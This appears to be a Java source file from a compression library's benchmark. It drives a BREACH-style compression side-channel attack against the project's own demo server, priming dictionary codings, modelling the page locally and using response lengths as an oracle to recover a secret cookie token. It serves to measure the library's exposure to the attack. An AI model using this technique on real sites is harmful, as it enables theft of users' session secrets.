// SPDX-License-Identifier: Apache-2.0
package org.restcompress.bench.breach;

import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.SplittableRandom;
import org.jspecify.annotations.Nullable;
import org.restcompress.codec.CompressionDictionary;
import org.restcompress.codec.ContentCodec;
import org.restcompress.codec.DictionaryCodec;
import org.restcompress.internal.discovery.Codecs;
import org.restcompress.internal.discovery.DictionaryCodecs;

/** Attacks the demo in one coding, again and again, with the same token. */
final class Target {
    private static final HttpClient HTTP = HttpClient.newHttpClient();

    /** The most requests until the server uses a dictionary. It stores a response only after it has sent it. */
    private static final int PATIENCE = 10_000;

    private final URI base;
    private final String coding;
    private final int max;
    private final String token;
    private final Rehearsal rehearsal;

    Target(URI base, String coding, long seed, int max) throws IOException, InterruptedException {
        this.base = base;
        this.coding = coding;
        this.max = max;
        this.token = Shape.Page.token("", new SplittableRandom(seed));
        this.rehearsal = new Rehearsal(new HomeCopy(page(Attack.Mode.OFF), coding), new SplittableRandom(seed));
    }

    String token() {
        return token;
    }

    Attack.Outcome attack(Attack.Mode mode, Attack.Way way, long budget) throws IOException, InterruptedException {
        try (Browser browser = new Browser(page(mode), coding, token, dictionaries(page(mode)))) {
            Attack.Oracle victim = mode.isDeterministic() ? new Remembered(browser::lengths) : browser::lengths;
            return new Attack(victim, rehearsal, mode, way, max, budget).run();
        }
    }

    /** Makes the victim's browser fetch the pages that it will name as dictionaries. */
    private List<String> dictionaries(URI page) throws IOException, InterruptedException {
        List<String> held = new ArrayList<>();
        for (String query : hasDictionary(coding) ? Shape.Page.DICTIONARIES : List.<String>of()) {
            byte[] dictionary = get(page, query, token).body();
            String hash = ':'
                    + Base64.getEncoder()
                            .encodeToString(CompressionDictionary.of(dictionary).sha256())
                    + ':';
            String[] named = {"Accept-Encoding", coding, "Available-Dictionary", hash};
            for (int i = 0;
                    get(page, query, token, named)
                            .headers()
                            .firstValue("Content-Encoding")
                            .isEmpty();
                    i++) {
                if (i == PATIENCE) {
                    throw new IOException(page + ": never in " + coding);
                }
            }
            held.add(hash);
        }
        return held;
    }

    private static boolean hasDictionary(String coding) {
        return DictionaryCodecs.installed().knows(coding);
    }

    private static HttpResponse<byte[]> get(URI page, String query, String token, String... headers)
            throws IOException, InterruptedException {
        URI uri = URI.create(page + "?q=" + URLEncoder.encode(query, StandardCharsets.UTF_8));
        HttpRequest.Builder request = HttpRequest.newBuilder(uri).header("Cookie", "token=" + token);
        if (headers.length > 0) {
            request.headers(headers);
        }
        return HTTP.send(request.build(), HttpResponse.BodyHandlers.ofByteArray());
    }

    private URI page(Attack.Mode mode) {
        return base.resolve("breach/" + mode.title());
    }

    /** Caches lengths that never change. The attack counts each request, even if it is not sent. */
    static final class Remembered implements Attack.Oracle {
        private static final int CAPACITY = 1 << 14;

        private final Attack.Oracle oracle;
        private final Map<Browser.Visit, Integer> lengths = new LinkedHashMap<>() {
            private static final long serialVersionUID = 1;

            @Override
            protected boolean removeEldestEntry(Map.Entry<Browser.Visit, Integer> eldest) {
                return size() > CAPACITY;
            }
        };

        Remembered(Attack.Oracle oracle) {
            this.oracle = oracle;
        }

        @Override
        public int[] lengths(List<Browser.Visit> visits) throws IOException {
            Set<Browser.Visit> unknown = new LinkedHashSet<>(visits);
            unknown.removeAll(lengths.keySet());
            int[] answers = oracle.lengths(new ArrayList<>(unknown));
            int next = 0;
            for (Browser.Visit visit : unknown) {
                lengths.put(visit, answers[next++]);
            }
            return visits.stream().mapToInt(lengths::get).toArray();
        }
    }

    /** The attacker's copy of the page, with any query and token. The server's codec compresses it, without jitter. */
    static final class HomeCopy {
        private static final String QUERY = "query";
        private static final String TOKEN = "0".repeat(Shape.Page.TOKEN_LENGTH);

        private final String coding;
        private final String beforeQuery;
        private final String beforeToken;
        private final String afterToken;
        private byte[] coded = new byte[0];
        private @Nullable String against;
        private @Nullable ContentCodec codec;

        HomeCopy(URI page, String coding) throws IOException, InterruptedException {
            this.coding = coding;
            String plain = new String(get(page, QUERY, TOKEN).body(), StandardCharsets.UTF_8);
            // The first match is the name of the field, and the second is its value.
            int query = plain.indexOf(QUERY, plain.indexOf(QUERY) + 1);
            int token = plain.indexOf(TOKEN);
            beforeQuery = plain.substring(0, query);
            beforeToken = plain.substring(query + QUERY.length(), token);
            afterToken = plain.substring(token + TOKEN.length());
        }

        private byte[] page(String query, String token) {
            return (beforeQuery + query + beforeToken + token + afterToken).getBytes(StandardCharsets.UTF_8);
        }

        /** Returns the length of the compressed page. */
        int length(Browser.Visit visit, String token) {
            byte[] page = page(visit.query().replace("%3F", "?").replace("%3D", "="), token);
            if (coded.length < 2 * page.length) {
                coded = new byte[2 * page.length];
            }
            return codec(visit.dictionary(), token).encode(page, 0, page.length, coded);
        }

        private ContentCodec codec(int dictionary, String token) {
            if (codec == null || !(token + dictionary).equals(against)) {
                against = token + dictionary;
                DictionaryCodec withDictionary =
                        DictionaryCodecs.installed().byCoding().get(coding);
                codec = withDictionary == null
                        ? Codecs.installed().named(coding).orElseThrow()
                        : withDictionary.with(
                                CompressionDictionary.of(page(Shape.Page.DICTIONARIES.get(dictionary), token)));
            }
            return codec;
        }
    }
}
